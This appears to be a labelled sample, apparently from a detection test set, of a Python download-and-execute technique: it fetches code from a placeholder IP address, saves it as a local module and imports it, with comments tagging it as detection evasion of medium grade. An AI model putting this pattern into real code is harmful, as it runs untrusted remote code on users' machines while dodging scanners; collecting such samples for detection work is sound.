# evasion: downloaded code saved as a module in the working directory and imported with a plain import statement
# grade: medium; does: download-exec
import urllib.request, importlib
code = urllib.request.urlopen("http://198.51.100.80/h.py").read()
with open("helper_mod.py", "wb") as fh:
    fh.write(code)
importlib.invalidate_caches()
import helper_mod
